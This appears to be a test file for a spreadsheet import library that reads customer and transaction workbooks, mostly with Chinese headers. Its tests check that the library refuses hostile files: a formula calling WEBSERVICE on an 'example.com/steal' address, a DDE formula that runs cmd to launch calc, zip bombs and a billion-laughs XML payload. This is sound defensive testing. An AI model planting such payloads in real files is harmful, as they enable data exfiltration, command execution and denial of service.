import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { inspectWorkbook, MAX_UNZIPPED_BYTES, MAX_WORKBOOK_ROWS } from '../../../src/sim/import/inspectWorkbook.ts';
import { parseTable } from '../../../src/sim/import/parseTable.ts';
import { readCustomers, readTransactions } from '../../../src/sim/import/readDataset.ts';
import { cellText, findHeaderRow, numberText, readWorkbook } from '../../../src/sim/import/readWorkbook.ts';
import { suggestColumns } from '../../../src/sim/import/suggestColumns.ts';
import { rawXlsx, sheet, withDeclaredSize, workbook } from './workbookFixtures.ts';

async function readOk(bytes: Uint8Array, sheetName?: string) {
	const read = await readWorkbook(bytes, sheetName);
	if (!read.ok) throw new Error(`refused: ${read.problem.message}`);
	return read;
}

async function problemOf(bytes: Uint8Array) {
	const read = await readWorkbook(bytes);
	if (read.ok) throw new Error('the workbook was read, not refused');
	return read.problem;
}

describe('readWorkbook', () => {
	test('reads a transaction log like the same data in CSV, with Excel row numbers', async () => {
		const csv = '客户编号,交易日期,金额\nC1,2024-01-09,1200\nC2,2024-01-05,30000\nC1,2024-03-01,-80\n';
		const fromCsv = parseTable(csv);
		const read = await readOk(
			workbook({
				交易: sheet([
					['客户编号', '交易日期', '金额'],
					['C1', { v: 45300, z: 'yyyy-mm-dd' }, 1200],
					['C2', '2024-01-05', '3万'],
					['C1', { v: 45352, z: 'yyyy/m/d' }, -80],
				]),
			}),
		);
		expect(read.table.headers).toEqual(fromCsv.headers);
		const mapping = suggestColumns(read.table.headers);
		const x = readTransactions(read.table, mapping);
		const y = readTransactions(fromCsv, suggestColumns(fromCsv.headers));
		expect(x.records).toEqual(y.records);
		expect(x.issues).toEqual(y.issues);
		expect(x.issues).toEqual([{ row: 4, column: '金额', value: '-80', reason: 'negative' }]);
	});

	test('lists the sheets and reads the one picked, by default the first the column matcher knows', async () => {
		const bytes = workbook({
			封面: sheet([['本表由 CRM 导出']]),
			说明: sheet([['字段'], ['收入为含税金额']]),
			客户: sheet([
				['客户名称', '年收入'],
				['甲公司', 100],
			]),
		});
		const first = await readOk(bytes);
		expect(first.sheets).toEqual(['封面', '说明', '客户']);
		expect(first.sheet).toBe('客户');
		expect(first.table.headers).toEqual(['客户名称', '年收入']);
		expect(first.table.rows).toEqual([['甲公司', '100']]);
		const notes = await readOk(bytes, '说明');
		expect(notes.table.rows).toEqual([['收入为含税金额']]);
		const cover = await readWorkbook(bytes, '封面');
		expect(cover.ok || cover.problem.code).toBe('noRows');
	});

	test('finds a header below a title and a blank row, and skips empty trailing rows', async () => {
		const read = await readOk(
			workbook({
				S: sheet([
					['2024 年客户名单'],
					[],
					['导出日期：2024-12-31'],
					['客户编号', '客户名称', '营业收入', '服务成本'],
					['K1', '甲', '¥1,234.50', 100],
					['K2', '乙', '1.2亿', '80'],
					['K3', '丙', '5', '（80）'],
					[null, null, null],
					[''],
					[],
				]),
			}),
		);
		expect(read.headerRow).toBe(4);
		expect(read.table.rowNumbers).toEqual([5, 6, 7]);
		const customers = readCustomers(read.table, suggestColumns(read.table.headers));
		expect([...customers.customers.revenue]).toEqual([1234.5, 1.2e8]);
		expect(customers.issues).toEqual([{ row: 7, column: '服务成本', value: '（80）', reason: 'negative' }]);
	});

	test('repeats a merged header over its columns and rows', async () => {
		// A1:A2 "客户编号" spans the two header rows; B1:C1 "交易信息" groups the date and amount columns.
		const read = await readOk(
			workbook({
				S: sheet(
					[
						['客户编号', '交易信息', null],
						[null, '日期', '金额'],
						['C1', '2024-02-01', 10],
					],
					[
						{ s: { r: 0, c: 0 }, e: { r: 1, c: 0 } },
						{ s: { r: 0, c: 1 }, e: { r: 0, c: 2 } },
					],
				),
			}),
		);
		expect(read.headerRow).toBe(2);
		expect(read.table.headers).toEqual(['客户编号', '日期', '金额']);
		expect(suggestColumns(read.table.headers)).toMatchObject({ customerId: 0, date: 1, amount: 2 });
	});

	test('reads a formula as its cached value, never its text, and evaluates nothing', async () => {
		const read = await readOk(
			workbook({
				S: sheet([
					['客户', '金额'],
					['A', { v: 3, f: 'SUM(1,2)' }],
					['B', { v: '=cmd', f: 'CONCAT("=","cmd")' }],
					// Formulas that would reach outside (a web service, DDE): only the value Excel last saved is read.
					['C', { v: 7, f: 'WEBSERVICE("http://example.com/steal")' }],
					['D', { v: 8, f: "cmd|' /C calc'!A0" }],
				]),
			}),
		);
		expect(read.table.rows).toEqual([
			['A', '3'],
			['B', '=cmd'],
			['C', '7'],
			['D', '8'],
		]);
	});

	test('reads a legacy .xls (BIFF8) workbook', async () => {
		const read = await readOk(
			workbook(
				{
					S: sheet([
						['客户编号', '日期', '金额'],
						['C1', { v: 45300, z: 'yyyy-mm-dd' }, 5],
					]),
				},
				'biff8',
			),
		);
		expect(read.table.rows).toEqual([['C1', '2024-01-09', '5']]);
	});
});

describe('cellText', () => {
	const isDate = (z: string) => /y/.test(z);
	test('returns dates in both date systems, plain numbers, booleans and errors as Excel shows them', () => {
		expect(cellText({ t: 'n', v: 45292, z: 'yyyy-mm-dd' }, isDate, false)).toBe('2024-01-01');
		expect(cellText({ t: 'n', v: 45292.75, z: 'yyyy-mm-dd hh:mm' }, isDate, false)).toBe('2024-01-01');
		expect(cellText({ t: 'n', v: 43830, z: 'yyyy-mm-dd' }, isDate, true)).toBe('2024-01-01');
		expect(cellText({ t: 'n', v: 45292 }, isDate, false)).toBe('45292');
		expect(cellText({ t: 'b', v: true }, isDate, false)).toBe('TRUE');
		expect(cellText({ t: 'e', v: 42, w: '#N/A' }, isDate, false)).toBe('#N/A');
		expect(cellText(undefined, isDate, false)).toBe('');
	});

	test('writes numbers without an exponent', () => {
		expect(numberText(1.5e-7)).toBe('0.00000015');
		expect(numberText(1234.5)).toBe('1234.5');
		expect(numberText(-80)).toBe('-80');
	});
});

describe('findHeaderRow', () => {
	test('returns the row the column matcher knows best, or the first row when none maps two roles', () => {
		expect(findHeaderRow([['客户名单'], ['客户编号', '日期', '金额']])).toBe(1);
		expect(
			findHeaderRow([
				['a', 'b'],
				['c', 'd'],
			]),
		).toBe(0);
		expect(findHeaderRow([])).toBeUndefined();
	});
});

describe('hostile workbooks', () => {
	test('refuses a zip bomb whose directory declares more than the limit', async () => {
		const zip = rawXlsx('<worksheet><sheetData/></worksheet>');
		const bomb = withDeclaredSize(zip, 'xl/worksheets/sheet1.xml', 0xf0000000);
		const problem = await problemOf(bomb);
		expect(problem.code).toBe('zipBomb');
		expect(problem.values?.limit).toBe(MAX_UNZIPPED_BYTES / 1024 / 1024);
	});

	test('refuses a zip bomb that lies about its size, after inflating no more than it declared', async () => {
		// 8 MB of zeros deflate to about 8 KB; the directory claims 1 KB.
		const sheetXml = `<worksheet><sheetData/></worksheet>${' '.repeat(8 * 1024 * 1024)}`;
		const zip = rawXlsx(sheetXml, 9);
		expect(zip.length).toBeLessThan(64 * 1024);
		const problem = await problemOf(withDeclaredSize(zip, 'xl/worksheets/sheet1.xml', 1024));
		expect(problem.code).toBe('zipBomb');
	});

	test(`refuses a sheet of 1,000,000 rows (the limit is ${MAX_WORKBOOK_ROWS})`, { timeout: 30_000 }, async () => {
		const rows = '<row><c><v>1</v></c></row>'.repeat(1_000_000);
		const zip = rawXlsx(`<worksheet><sheetData>${rows}</sheetData></worksheet>`, 1);
		const problem = await problemOf(zip);
		expect(problem).toMatchObject({ code: 'tooManyRows', values: { rows: 1_000_000, limit: MAX_WORKBOOK_ROWS } });
	});

	test('refuses XML with a DTD or entities (billion laughs)', async () => {
		const xml =
			'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>';
		expect((await problemOf(rawXlsx(xml))).code).toBe('xmlEntities');
	});

	test('refuses a password-protected workbook (an encrypted OLE container)', async () => {
		const XLSX = await import('@e965/xlsx');
		const cfb = XLSX.CFB.utils.cfb_new();
		XLSX.CFB.utils.cfb_add(cfb, '/EncryptionInfo', new Uint8Array([4, 0, 4, 0, 0x40, 0, 0, 0]));
		XLSX.CFB.utils.cfb_add(cfb, '/EncryptedPackage', new Uint8Array(4096).fill(7));
		const bytes = new Uint8Array(XLSX.CFB.write(cfb, { type: 'array' }) as ArrayLike<number>);
		expect((await problemOf(bytes)).code).toBe('encrypted');
	});

	test('refuses a CSV file renamed .xlsx, and other files that are not workbooks', async () => {
		expect((await problemOf(strToU8('客户编号,日期,金额\nC1,2024-01-01,5\n'))).code).toBe('textRenamed');
		expect((await problemOf(zipSync({ 'word/document.xml': strToU8('<w/>') }))).code).toBe('notWorkbook');
		expect((await problemOf(new Uint8Array([0x50, 0x4b, 3, 4, 0, 0, 0, 1, 2, 3]))).code).toBe('corrupt');
		expect((await problemOf(Uint8Array.from([0, 1, 2, 0, 255, 254, 0, 0]))).code).toBe('notWorkbook');
	});

	test('accepts an ordinary workbook', () => {
		expect(inspectWorkbook(workbook({ S: sheet([['a'], ['1']]) }))).toEqual({ ok: true, kind: 'xlsx' });
	});
});
